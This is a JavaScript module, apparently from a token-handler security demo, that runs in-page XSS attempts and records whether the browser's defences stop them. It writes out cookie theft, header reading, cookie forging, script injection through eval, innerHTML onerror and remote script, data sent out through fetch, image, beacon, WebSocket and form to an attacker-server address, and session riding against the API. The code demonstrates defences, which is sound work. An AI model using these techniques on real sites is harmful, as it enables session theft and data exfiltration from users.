/**
 * What an attacker's script would try once it runs in this page. Every one is really done, with this page's own rights;
 * what comes back is what the script got hold of. None goes through `token-handler.js`: an attacker would not, either.
 */

import { pause } from './evidence.js';

/** @typedef {import('./evidence.js').Evidence} Evidence */

/**
 * @typedef {object} Outcome
 * @property {boolean} worked
 * @property {string} seen What happened, in the browser's words where it has some.
 *
 * @typedef {object} Attack
 * @property {string} id
 * @property {string} title
 * @property {string} tries In code.
 * @property {(evidence: Evidence) => Promise<Outcome>} run
 *
 * @typedef {object} Goal
 * @property {string} title
 * @property {readonly Attack[]} attacks
 */

/** @type {readonly Goal[]} */
export const GOALS = [
  {
    title: 'Steal the tokens',
    attacks: [
      { id: 'cookie', title: 'Read the cookies', tries: 'document.cookie', run: async () => ours(document.cookie) },
      {
        id: 'cookie-store',
        title: 'Read them by the newer interface',
        tries: 'cookieStore.getAll()',
        run: async () => ('cookieStore' in window ? ours((await cookieStore.getAll()).map(({ name }) => name).join(' ')) : nothing('not offered by this browser')),
      },
      {
        id: 'set-cookie',
        title: 'Have new ones made and read them on the way in',
        tries: "(await fetch('/oauth-agent/refresh', …)).headers",
        run: async () => {
          const response = await call('/oauth-agent/refresh', { method: 'POST' });
          return ours(`${response.headers.get('set-cookie') ?? ''}${await response.text()}`, `${response.status}, ${[...response.headers].length} headers, none of them Set-Cookie`);
        },
      },
      {
        id: 'set-cookie-xhr',
        title: 'The same by XMLHttpRequest',
        tries: 'xhr.getAllResponseHeaders()',
        run: () =>
          new Promise((resolve) => {
            const xhr = new XMLHttpRequest();
            xhr.open('POST', '/oauth-agent/refresh');
            xhr.setRequestHeader(...CSRF);
            xhr.addEventListener('loadend', () => resolve(ours(xhr.getAllResponseHeaders().includes('set-cookie') ? xhr.getAllResponseHeaders() : '', `${xhr.status}, no Set-Cookie among the headers`)));
            xhr.send();
          }),
      },
      {
        id: 'trace',
        title: 'Have the server read them back',
        tries: "fetch('/api/echo', { method: 'TRACE' })",
        run: () => refusedOr(async () => ours(await (await call('/api/echo', { method: 'TRACE' })).text())),
      },
      {
        id: 'echo',
        title: 'Have the API read the token back',
        tries: "(await fetch('/api/echo', …)).text()",
        run: async () => {
          const text = await (await call('/api/echo')).text();
          const jwt = /\beyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*/.exec(text);
          return jwt || text.includes('__Host-Http-') ? got(jwt?.[0] ?? 'a cookie') : nothing('claims and a fingerprint; no token, no cookie');
        },
      },
    ],
  },
  {
    title: 'Plant something of its own',
    attacks: [
      {
        id: 'forge',
        title: 'Send a cookie of its own',
        tries: "fetch('/api/echo', { headers: { Cookie: '…-at=forged' } })",
        run: async () => {
          const { status: before } = await call('/api/echo');
          const request = new Request('/api/echo', { headers: { ...HEADERS, Cookie: '__Host-Http-demo-at=forged' } });
          const { status } = await fetch(request.clone()); // two cookies of one name would end in 401
          return request.headers.has('cookie') || status !== before ? got(`answered ${status}`) : nothing(`the browser dropped the header; ${status} as before`);
        },
      },
      {
        id: 'toss',
        title: 'Overwrite the cookie',
        tries: "document.cookie = '__Host-Http-demo-at=forged; …'",
        run: async () => {
          const { status: before } = await call('/api/orders');
          document.cookie = '__Host-Http-demo-at=forged; Secure; Path=/';
          const { status } = await call('/api/orders');
          return status !== before ? got('the session is broken') : nothing(`not kept; ${status} as before`);
        },
      },
    ],
  },
  {
    title: 'Run more code',
    attacks: [
      {
        id: 'inline',
        title: 'Inline script',
        tries: 'document.body.append(<script>…</script>)',
        run: (evidence) => code(evidence, () => document.body.append(scriptOf(evidence.flag))),
      },
      { id: 'eval', title: 'Text as code', tries: 'eval(…)', run: (evidence) => code(evidence, () => (0, eval)(evidence.flag)) },
      {
        id: 'markup',
        title: 'Text as markup',
        tries: "box.innerHTML = '<img onerror=…>'",
        run: (evidence) =>
          code(evidence, () => {
            document.createElement('div').innerHTML = `<img src="/nowhere" onerror="${evidence.flag}">`;
          }),
      },
      {
        id: 'handler',
        title: 'A handler in an attribute',
        tries: "button.setAttribute('onclick', …)",
        run: (evidence) =>
          code(evidence, () => {
            const button = document.createElement('button');
            button.setAttribute('onclick', evidence.flag);
            button.click();
          }),
      },
      {
        id: 'remote',
        title: 'Script from the attacker’s server',
        tries: 'script.src = …',
        run: async (evidence) => {
          const outcome = await refusedOr(async () => {
            const script = document.createElement('script');
            script.src = evidence.address('script', 'load me');
            document.body.append(script);
            return nothing('blocked');
          });
          return (await evidence.arrived('script')) ? got('the attacker’s server was asked for it') : outcome;
        },
      },
    ],
  },
  {
    title: 'Send what it reads to the attacker’s server',
    attacks: [
      { id: 'fetch', title: 'By fetch', tries: 'fetch(evil, { mode: \'no-cors\' })', run: (evidence) => leak(evidence, 'fetch', (to) => fetch(to, { mode: 'no-cors' }).then(() => 'sent')) },
      { id: 'image', title: 'By a picture', tries: 'new Image().src = evil', run: (evidence) => leak(evidence, 'image', picture) },
      {
        id: 'beacon',
        title: 'By a beacon',
        tries: 'navigator.sendBeacon(evil)',
        run: (evidence) => leak(evidence, 'beacon', async (to) => `the browser says ${navigator.sendBeacon(to, 'orders')}`),
      },
      { id: 'socket', title: 'By a WebSocket', tries: 'new WebSocket(evil)', run: (evidence) => leak(evidence, 'socket', socket) },
      { id: 'form', title: 'By a form', tries: 'form.action = evil; form.submit()', run: (evidence) => leak(evidence, 'form', form) },
    ],
  },
  {
    title: 'Ride the session',
    attacks: [
      {
        id: 'ride',
        title: 'Call the API as the user',
        tries: "fetch('/api/orders', …)",
        run: async () => {
          const response = await call('/api/orders');
          const { orders } = await response.json();
          return Array.isArray(orders) ? got(`${orders.length} orders read, as the app itself reads them`) : nothing(`${response.status}: nobody is signed in`);
        },
      },
    ],
  },
];

/** @type {[string, string]} */
const CSRF = ['token-handler-version', '1'];
const HEADERS = Object.fromEntries([CSRF]);

/** @param {string} path @param {RequestInit} [init] */
function call(path, init) {
  return fetch(path, { ...init, headers: HEADERS });
}

/** @param {string} seen @returns {Outcome} */
function got(seen) {
  return { worked: true, seen };
}

/** @param {string} seen @returns {Outcome} */
function nothing(seen) {
  return { worked: false, seen };
}

/** Whether a cookie of ours is in there: other apps of this host may keep theirs. @param {string} found @param {string} [otherwise] */
function ours(found, otherwise = 'nothing of ours') {
  return /__Host-Http-|\beyJ[\w-]{8,}\./.test(found) ? got(found.slice(0, 60)) : nothing(otherwise);
}

/** @param {() => Promise<Outcome>} attempt */
async function refusedOr(attempt) {
  try {
    return await attempt();
  } catch (error) {
    return nothing(words(error));
  }
}

/** Judged by the flag. @param {Evidence} evidence @param {() => void} attempt */
async function code(evidence, attempt) {
  const outcome = await refusedOr(async () => {
    attempt();
    return nothing('blocked by the policy');
  });
  await pause(50); // an `onerror` would come a little later
  return evidence.raised() ? got('the code ran') : outcome;
}

/** Judged by the receiving server. @param {Evidence} evidence @param {string} via @param {(to: string) => Promise<string>} send */
async function leak(evidence, via, send) {
  let said = '';
  try {
    said = await send(evidence.address(via, 'what the orders say'));
  } catch (error) {
    said = words(error);
  }
  return (await evidence.arrived(via)) ? got('it arrived') : nothing(`${said}; nothing arrived`);
}

/** @param {string} text */
function scriptOf(text) {
  const script = document.createElement('script');
  script.append(text);
  return script;
}

/** @param {string} to @returns {Promise<string>} */
function picture(to) {
  return new Promise((resolve) => {
    const image = new Image();
    image.addEventListener('load', () => resolve('loaded'));
    image.addEventListener('error', () => resolve('error'));
    image.src = to;
  });
}

/** @param {string} to @returns {Promise<string>} */
function socket(to) {
  return new Promise((resolve) => {
    const made = new WebSocket(to.replace(/^http/, 'ws'));
    made.addEventListener('error', () => resolve('error'));
    made.addEventListener('open', () => resolve('open'));
  });
}

/** @param {string} to */
async function form(to) {
  const made = document.createElement('form');
  made.action = to;
  made.method = 'post';
  made.target = '_blank';
  made.hidden = true;
  document.body.append(made);
  made.submit();
  made.remove();
  return 'submitted';
}

/** @param {unknown} error */
function words(error) {
  const text = error instanceof Error ? `${error.name}: ${error.message}` : String(error);
  return text.length > 110 ? `${text.slice(0, 109)}…` : text;
}
